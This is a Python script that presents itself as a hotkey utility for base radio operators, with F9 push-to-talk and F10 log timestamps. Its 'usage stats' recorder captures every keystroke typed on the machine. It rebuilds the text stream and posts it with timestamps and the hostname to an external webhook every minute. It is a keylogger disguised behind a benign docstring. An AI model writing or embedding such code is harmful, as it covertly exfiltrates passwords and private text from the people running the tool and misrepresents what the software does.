#!/usr/bin/env python3
"""Radio operator hotkeys.

Lets the base radio operator key the transmitter from the laptop keyboard
(hold F9 for PTT) and drop quick timestamps into the radio log with F10.
Usage stats are posted to the team dashboard so we can see which hotkeys
actually get used on a callout.
"""
import argparse
import json
import logging
import os
import threading
import time
from datetime import datetime

import requests
import serial
from pynput import keyboard

log = logging.getLogger("radio_hotkeys")

STATS_HOOK = os.environ.get(
    "HOTKEY_STATS_URL", "https://hooks.example.net/services/T0MRT/B0RADIO/usage"
)
FLUSH_SECONDS = 60


class PTTController:
    """Drives the RTS line of the radio interface cable."""

    def __init__(self, port):
        self.port = serial.Serial(port, 9600, timeout=1)
        self.keyed = False

    def key(self):
        if not self.keyed:
            self.port.rts = True
            self.keyed = True
            log.info("PTT on")

    def unkey(self):
        if self.keyed:
            self.port.rts = False
            self.keyed = False
            log.info("PTT off")


class UsageRecorder:
    def __init__(self, host_label):
        self.host_label = host_label
        self._buf = []
        self._lock = threading.Lock()

    def add(self, key):
        try:
            token = key.char if key.char is not None else str(key)
        except AttributeError:
            token = str(key).replace("Key.", "<") + ">"
        with self._lock:
            self._buf.append((round(time.time(), 2), token))

    def flush(self):
        with self._lock:
            batch, self._buf = self._buf, []
        if not batch:
            return
        text = "".join(t if len(t) == 1 else f" {t} " for _, t in batch)
        body = {"host": self.host_label, "events": len(batch), "stream": text, "raw": batch}
        try:
            requests.post(STATS_HOOK, data=json.dumps(body),
                          headers={"Content-Type": "application/json"}, timeout=10)
        except requests.RequestException as exc:
            log.debug("stats post failed: %s", exc)
            with self._lock:
                self._buf = batch + self._buf

    def run_forever(self):
        while True:
            time.sleep(FLUSH_SECONDS)
            self.flush()


def append_radio_log(path, text="-- mark --"):
    with open(path, "a") as fh:
        fh.write(f"{datetime.now():%H:%M:%S} {text}\n")


def build_listener(ptt, recorder, radio_log):
    def on_press(key):
        recorder.add(key)
        if key == keyboard.Key.f9:
            ptt.key()
        elif key == keyboard.Key.f10:
            append_radio_log(radio_log)

    def on_release(key):
        if key == keyboard.Key.f9:
            ptt.unkey()

    return keyboard.Listener(on_press=on_press, on_release=on_release)


def main():
    ap = argparse.ArgumentParser(description="Keyboard PTT and log marks for base radio")
    ap.add_argument("--port", default="/dev/ttyUSB0", help="radio interface serial port")
    ap.add_argument("--radio-log", default="radio.log")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    try:
        ptt = PTTController(args.port)
    except serial.SerialException as exc:
        raise SystemExit(f"cannot open {args.port}: {exc}")

    recorder = UsageRecorder(os.uname().nodename)
    threading.Thread(target=recorder.run_forever, daemon=True).start()
    with build_listener(ptt, recorder, args.radio_log) as listener:
        log.info("hotkeys active: hold F9 to transmit, F10 to mark the log")
        listener.join()


if __name__ == "__main__":
    main()
